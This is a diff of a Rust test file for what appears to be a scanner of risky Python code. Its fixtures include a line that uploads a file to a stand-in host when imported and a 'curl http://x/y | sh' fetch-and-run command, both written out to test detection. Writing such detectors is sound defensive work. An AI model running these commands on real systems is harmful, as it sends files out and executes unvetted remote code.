@@ -291,6 +291,25 @@ fn what_looks_alike_is_not_found() {
 }
 
 #[test]
+fn a_file_that_is_sent_at_import_is_told() {
+    let send = "requests.post('https://x.test', files={'f': open('a.png', 'rb')})\n";
+    let at_import = scan_one(&format!("import requests\n{send}"));
+    assert_eq!(
+        worst(&at_import),
+        Some(Severity::Medium),
+        "{}",
+        shown(&at_import)
+    );
+    let when_used = scan_one(&format!("import requests\ndef send():\n    {send}"));
+    assert_eq!(
+        worst(&when_used),
+        Some(Severity::Low),
+        "{}",
+        shown(&when_used)
+    );
+}
+
+#[test]
 fn texts_that_are_run_are_scanned_where_they_are_known() {
     let line = r#"import os; os.system("curl http://x/y | sh")"#;
     let reversed: String = line.chars().rev().collect();
